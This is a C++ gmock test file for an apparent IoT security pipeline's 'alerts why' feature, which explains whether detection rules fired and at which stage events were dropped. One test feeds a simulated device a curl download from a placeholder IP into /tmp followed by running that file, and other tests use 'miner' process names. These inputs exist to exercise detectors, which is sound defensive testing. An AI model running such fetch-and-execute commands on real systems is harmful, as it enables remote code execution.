// `alerts why`: each stage that can drop an event is named, with the event that it dropped.
#include "pipeline/why.hpp"

#include <gmock/gmock.h>

#include "pipeline/history_log_test.hpp"

namespace fieldwatch::pipeline {
namespace {

using ::testing::HasSubstr;

class WhyTest : public HistoryLog {
  protected:
    Why ask(std::int64_t seconds, const std::string& rule = "r", const std::string& device = "d") {
        auto out =
            why(journal_->reader(), kPartitions, *store_,
                {.hub = "h", .device = device, .rule = rule, .at = at(seconds), .content_in_force = hash_});
        EXPECT_TRUE(out) << out.error().message;
        return out.value_or(Why{});
    }
    void in_force(std::int64_t seconds, std::vector<std::pair<std::string, std::string>> files) {
        hash_ = announce(seconds, std::move(files));
    }
    std::string hash_;
};

TEST_F(WhyTest, TellsRaisedFromRepeatedAndFailed) {
    in_force(0, {{"a.yml", rule("r", "miner")}});
    run(1'000, "d", "miner --fast");
    run(1'300, "d", "miner --fast");
    run(1'600, "d", "ls -l");
    const auto raised = ask(1'000);
    EXPECT_EQ(raised.stage, WhyStage::Raised) << raised.sentence;
    ASSERT_EQ(raised.events.size(), 1u);
    ASSERT_TRUE(raised.events[0].alert);
    const auto repeat = ask(1'300);
    EXPECT_EQ(repeat.stage, WhyStage::Repeat) << repeat.sentence;
    EXPECT_EQ(repeat.events[0].alert, raised.events[0].alert);
    EXPECT_THAT(repeat.sentence, HasSubstr("PT1H"));
    const auto failed = ask(1'600);
    EXPECT_EQ(failed.stage, WhyStage::Condition);
    EXPECT_THAT(failed.sentence, HasSubstr("CommandLine is 'ls -l'"));
    EXPECT_EQ(ask(1'000, "Rule r").rule_id, "r");
    EXPECT_EQ(ask(1'000, "Sigma_r").rule_id, "r");
}

TEST_F(WhyTest, TellsAbsorbedFromNeverSeen) {
    in_force(0, {{"a.yml", rule("r", "miner")},
                 {"b.yml", rule("s", "fast", "fieldwatch: {alert_type: IoT_Fast, absorbs: [Sigma_r]}\n")}});
    run(1'000, "d", "miner --fast");
    EXPECT_EQ(ask(1'000).stage, WhyStage::Absorbed);
    EXPECT_THAT(ask(1'000).sentence, HasSubstr("IoT_Fast"));
    EXPECT_EQ(ask(1'000, "r", "other").stage, WhyStage::NoRecord);
    EXPECT_EQ(ask(5'000).stage, WhyStage::NoRecord);
}

TEST_F(WhyTest, TellsDuplicatesAndRefusals) {
    in_force(0, {{"a.yml", rule("r", "miner")}});
    run(0, "d", "ls", "11111111-0000-0000-0000-000000000001");
    const auto partition = model::partition_of({"h"}, {"d"}, kPartitions);
    const auto again = journal_->reader().read({journal::Stream::Security, partition, 1}, 1, 1 << 20).value();
    auto record = model::decode_record(again.records.at(0).bytes).value();
    append(partition, {.kind = record.kind,
                       .received = at(1'000),
                       .sender = {{"h"}, {"d"}, {"azureiotsecurity"}},
                       .properties = {},
                       .body = std::string(record.body)});
    EXPECT_EQ(ask(1'000).stage, WhyStage::Duplicate);
    append(partition, {.kind = model::RecordKind::SecurityMessage,
                       .received = at(2'000),
                       .sender = {{"h"}, {"d"}, {"azureiotsecurity"}},
                       .properties = {},
                       .body = "{}"});
    EXPECT_EQ(ask(2'000).stage, WhyStage::Refused);
}

TEST_F(WhyTest, SaysThatARuleCameLater) {
    in_force(0, {{"a.yml", rule("q", "other")}});
    run(1'000, "d", "miner");
    in_force(2'000, {{"a.yml", rule("q", "other")}, {"b.yml", rule("r", "miner")}});
    run(3'000, "d", "miner");
    const auto early = ask(1'000);
    EXPECT_EQ(early.stage, WhyStage::NotInForce);
    EXPECT_THAT(early.sentence, HasSubstr("would fire"));
    EXPECT_EQ(ask(3'000).stage, WhyStage::Raised);
}

TEST_F(WhyTest, CountsWhatACorrelationRead) {
    in_force(
        0, {{"a.yml", rule("r", "miner")},
            {"c.yml",
             "title: Often\nid: often\ncorrelation:\n  type: event_count\n  rules: [r]\n  group-by: [User]\n"
             "  timespan: 10m\n  condition: {gte: 3}\nlevel: high\n"}});
    run(1'000, "d", "miner");
    run(1'010, "d", "miner");
    const auto out = ask(1'010, "often");
    EXPECT_EQ(out.stage, WhyStage::Condition);
    EXPECT_THAT(out.sentence, HasSubstr("r matched 2 times"));
    EXPECT_EQ(ask(1'010, "r").stage, WhyStage::Held);
}

TEST_F(WhyTest, NamesTheDetectorClassAndWhatItNeeds) {
    in_force(0, {{"a.yml", rule("r", "other")}});
    run(1'000, "d", "curl -o /tmp/x http://198.51.100.7/x");
    const auto missing = ask(1'000, "IoT_LinuxBackdoor");
    EXPECT_EQ(missing.stage, WhyStage::Condition);
    EXPECT_EQ(missing.rule_id, "fieldwatch-a24");
    EXPECT_THAT(missing.sentence, HasSubstr("two ProcessCreate events"));
    EXPECT_THAT(missing.sentence, HasSubstr("ProcessCreate 1"));
    run(1'010, "d", "/tmp/x");
    const auto raised = ask(1'010, "fieldwatch-a24");
    EXPECT_EQ(raised.stage, WhyStage::Raised) << raised.sentence;
    ASSERT_EQ(raised.events.size(), 1u);
    EXPECT_TRUE(raised.events[0].alert);
    EXPECT_EQ(ask(1'010, "IoT_LinuxBackdoor", "other").stage, WhyStage::NoRecord);
    EXPECT_THAT(ask(1'010, "IoT_X_RareProcess").sentence, HasSubstr("`behaviour` is off"));
}

TEST_F(WhyTest, RefusesRulesThatAreNone) {
    in_force(0, {{"a.yml", rule("r", "miner")}});
    const auto out = why(journal_->reader(), kPartitions, *store_,
                         {.hub = "h", .device = "d", .rule = "x", .at = at(0), .content_in_force = hash_});
    EXPECT_EQ(out.error().code, Errc::NotFound);
}

}  // namespace
}  // namespace fieldwatch::pipeline
